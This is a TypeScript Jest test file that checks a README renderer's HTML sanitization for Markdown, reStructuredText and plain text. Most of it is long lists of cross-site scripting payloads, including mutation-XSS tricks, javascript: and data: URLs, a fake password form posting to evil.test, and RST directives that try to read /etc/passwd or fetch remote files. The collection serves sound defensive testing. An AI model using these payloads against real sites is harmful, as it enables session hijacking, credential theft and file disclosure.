import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { unsafeParts } from './safe-html.test-helper.ts'
import { startReadmeRenderer } from './start-readme-renderer.ts'
import type { ReadmeRenderer } from './start-readme-renderer.ts'

let renderer: ReadmeRenderer

beforeAll(async () => {
  renderer = startReadmeRenderer()
  await renderer.render({ text: 'warm *up*', contentType: 'text/x-rst' })
}, 90_000)

afterAll(async () => {
  await renderer.close()
})

/** The parts that are unsafe, or undefined when the text was refused. */
async function unsafeIn(text: string, contentType: string): Promise<string[] | undefined> {
  const result = await renderer.render({ text, contentType })
  return 'html' in result ? unsafeParts(result.html) : undefined
}

const HTML_VECTORS: readonly string[] = [
  // Script and other raw text
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<script\n>alert(1)</script\n>',
  '<style>@import "//evil.test/x.css"</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><script>alert(1)</script>"></noframes>',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.test/x" OnErRoR="alert(1)">',
  '<img/src="https://a.test/x"/onerror=alert(1)>',
  '<img src="https://a.test/x"onload=alert(1)>',
  '<img src=https://a.test/x\u000Conload=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img alt="`" src="https://a.test/x" title="` onerror=alert(1)">',
  '<a href="https://a.test" onclick="alert(1)">x</a>',
  '<a href="https://a.test" onfocus=alert(1) autofocus tabindex=0>x</a>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<div onmouseover="alert(1)" style="position:fixed;inset:0">x</div>',
  '<p onpointerrawupdate=alert(1)>x',
  '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x</table>',
  '<input type=checkbox onfocus=alert(1) autofocus>',
  '<input type=image src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<picture><source srcset="https://a.test/x" onerror=alert(1)><img src=x onerror=alert(1)></picture>',
  '<b a=">" onclick=alert(1)>x</b>',
  '<b "onclick=alert(1)>x</b>',
  "<b ' onclick=alert(1) '>x</b>",
  '<b\u0000onclick=alert(1)>x</b>',
  // Foreign content and mutation
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><noscript><img title="</noscript><img src=x onerror=alert(1)>"></desc></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<table><caption><svg><title><style><img src=x onerror=alert(1)></style></title></svg></caption></table>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<template><script>alert(1)</script></template>',
  // Frames, plugins, forms, page-wide elements
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<form action="https://evil.test"><input name=password type=password><button>Sign in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<dialog open>x</dialog>',
  '<html><head><script>alert(1)</script></head><body>x</body></html>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<portal src="https://evil.test"></portal>',
  // Clobbering and disguise
  '<a id=cookie name=cookie>x</a>',
  '<img name=getElementById src="https://a.test/x">',
  '<form id=document><input id=body name=attributes></form>',
  '<a id="user-content" href="#root">x</a>',
  '<p id="__proto__" class="constructor">x</p>',
  '<p __proto__=x constructor=y>x</p>',
  '<div class="fixed modal dialog">x</div>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<a href="https://a.test" target=_top rel=opener ping="https://evil.test">x</a>',
  '<a href="https://a.test" download>x</a>',
  '<img src="https://a.test/x" usemap="#m" ismap><map name=m><area href="javascript:alert(1)"></map>',
  '<img src="https://a.test/x" srcset="javascript:alert(1) 2x, data:image/svg+xml,x 3x">',
  '<img src="https://a.test/x" crossorigin=use-credentials referrerpolicy=unsafe-url>',
  '<div contenteditable slot=x is=x-y part=z popover itemscope>x</div>',
  '<x-custom onclick=alert(1)>x</x-custom>',
  // Broken markup
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--!><script>alert(1)</script>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY e "<script>alert(1)</script>">]>&e;',
  '</p/onclick=alert(1)>',
  '</div></section></article><script>alert(1)</script>',
  '<<img src=x onerror=alert(1)//<',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a href="https://a.test/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
  '<a title="&quot; onmouseover=&quot;alert(1)" href="https://a.test">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
]

const URL_VECTORS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  '&#1;javascript:alert(1)',
  '%6Aavascript:alert(1)',
  'javascript://a.test/%0Aalert(1)',
  'vbscript:msgbox(1)',
  'livescript:x',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'data:image/png;base64,iVBORw0KGgo=',
  'blob:https://a.test/1',
  'file:///etc/passwd',
  'filesystem:https://a.test/x',
  'view-source:https://a.test',
  'ftp://a.test/x',
  'tel:+1',
  'intent://a.test#Intent;scheme=http;end',
  'chrome://settings',
  '//evil.test/x',
  '\\\\evil.test\\x',
  '/account/delete',
  '../../settings',
  '?logout=1',
  'https:evil.test',
  'https://a.test/"onmouseover="alert(1)',
]

const PLACES: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `some text ${vector} more`,
  (vector) => `# ${vector}`,
  (vector) => `- item\n\n  ${vector}\n`,
  (vector) => `| a |\n|---|\n| ${vector.replaceAll('|', '')} |`,
  (vector) => `<div>\n\n${vector}\n\n</div>`,
  (vector) => `[${vector}](https://a.test "${vector.replaceAll('"', '')}")`,
  (vector) => `<table><tr><td>${vector}`,
  (vector) => `> [!NOTE]\n> ${vector}\n\n\`\`\`html\n${vector}\n\`\`\``,
]

const LINK_FORMS: readonly ((url: string) => string)[] = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `![x](${url})`,
  (url) => `<${url}>`,
  (url) => `[x][r]\n\n[r]: ${url}`,
  (url) => `<a href="${url}">x</a>`,
  (url) => `<a href='${url}'>x</a><img src='${url}'>`,
  (url) => `<picture><source srcset="${url} 2x" media="(x)"><img src="${url}"></picture>`,
]

const RST_FORMS: readonly ((url: string) => string)[] = [
  (url) => `\`x <${url}>\`_`,
  (url) => `x_\n\n.. _x: ${url}`,
  (url) => `.. image:: ${url}\n   :alt: x`,
  (url) => `.. image:: https://a.test/x.png\n   :target: ${url}`,
  (url) => `.. figure:: ${url}\n   :figclass: x\n\n   caption`,
]

const RST_TEXTS: readonly string[] = [
  '.. raw:: html\n\n   <script>alert(1)</script>',
  '.. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>alert(1)</script>`',
  '.. include:: /etc/passwd',
  '.. literalinclude:: /etc/passwd',
  '.. csv-table::\n   :file: /etc/passwd',
  '.. csv-table::\n   :url: https://evil.test/x.csv',
  '.. raw:: html\n   :url: https://evil.test/x.html',
  '.. raw:: html\n   :file: /etc/passwd',
  '.. meta::\n   :refresh: 0; url=javascript:alert(1)\n\nx',
  '.. title:: <script>alert(1)</script>\n\nx',
  '.. container:: modal fixed\n   :name: cookie\n\n   x',
  '.. class:: onclick\n\nx',
  '.. math::\n\n   \\href{javascript:alert(1)}{x}',
  ':math:`</span><script>alert(1)</script>`',
  '.. code:: html\n\n   <script>alert(1)</script>',
  '.. code:: "><script>alert(1)</script>\n\n   x',
  '.. |x| image:: javascript:alert(1)\n\n|x|',
  '.. image:: https://a.test/x.svg\n   :class: fixed\n   :width: 1" onload="alert(1)',
  '.. image:: https://a.test/x.svg\n   :alt: " onerror="alert(1)',
  '.. date:: x\n\n.. _document.cookie:\n\nx <script>alert(1)</script>',
  ':Author: <script>alert(1)</script>\n:Contact: javascript:alert(1)\n\nx',
  '.. |t| replace:: <img src=x onerror=alert(1)>\n\n|t|',
  '<script>alert(1)</script>\n=========================\n\nx',
  '.. figure:: https://a.test/x.png\n   :target: javascript:alert(1)\n   :name: cookie\n\n   <b onclick=alert(1)>',
  '.. parsed-literal::\n\n   <script>alert(1)</script> `x <javascript:alert(1)>`_',
  '=====  =====\n<b>    x\n=====  =====\n<svg onload=alert(1)>  y\n=====  =====',
  '.. table:: <script>alert(1)</script>\n   :class: x\n   :width: 10px;position:fixed\n\n   ==  ==\n   a   b\n   ==  ==',
  '.. list-table:: t\n   :align: center" onclick="alert(1)\n\n   * - <img src=x onerror=alert(1)>',
  'http://a.test/"><script>alert(1)</script>',
  '"javascript:alert(1)"_ and <javascript:alert(1)>',
  'x [#<script>]_\n\n.. [#] <script>alert(1)</script>',
]

describe('Markdown with hostile HTML', () => {
  test.each(HTML_VECTORS)('%j', async (vector) => {
    for (const contentType of ['text/markdown', 'text/markdown; variant=CommonMark']) {
      for (const place of PLACES) {
        expect(await unsafeIn(place(vector), contentType)).toEqual([])
      }
    }
  })
})

describe('Markdown with hostile addresses', () => {
  test.each(URL_VECTORS)('%s', async (url) => {
    for (const form of LINK_FORMS) {
      expect(await unsafeIn(form(url), 'text/markdown')).toEqual([])
    }
  })
})

describe('reStructuredText with hostile addresses', () => {
  test.each(URL_VECTORS)('%s', async (url) => {
    for (const form of RST_FORMS)
      expect((await unsafeIn(form(url), 'text/x-rst')) ?? []).toEqual([])
  })

  test('the forms themselves render, so the addresses were tried', async () => {
    for (const form of RST_FORMS) {
      expect(await unsafeIn(form('https://a.test/x'), 'text/x-rst')).toEqual([])
    }
  })
})

describe('hostile reStructuredText', () => {
  test.each(RST_TEXTS)('%j', async (text) => {
    expect((await unsafeIn(text, 'text/x-rst')) ?? []).toEqual([])
  })

  test.each(HTML_VECTORS)('HTML is only text: %j', async (vector) => {
    const text = `Title\n=====\n\n- ${vector}\n\n::\n\n   ${vector}\n`
    expect((await unsafeIn(text, 'text/x-rst')) ?? []).toEqual([])
  })
})

describe('hostile plain text', () => {
  test.each(HTML_VECTORS)('%j', async (vector) => {
    expect(await unsafeIn(vector, 'text/plain')).toEqual([])
    expect((await unsafeIn(vector, '')) ?? []).toEqual([])
  })
})

test('the checker itself sees what it must see', () => {
  expect(unsafeParts('<script>1</script>')).toContain('<script>')
  expect(unsafeParts('<p onclick=x>')).toContain('p onclick="x"')
  expect(unsafeParts('<a href="javascript:1" rel="nofollow noopener">')).toContain(
    'a href="javascript:1"',
  )
  expect(unsafeParts('<p id=cookie>')).toContain('p id="cookie"')
  expect(unsafeParts('<svg></svg>')).toContain('foreign <svg>')
  expect(unsafeParts('<!-- x -->')).toContain('#comment')
})
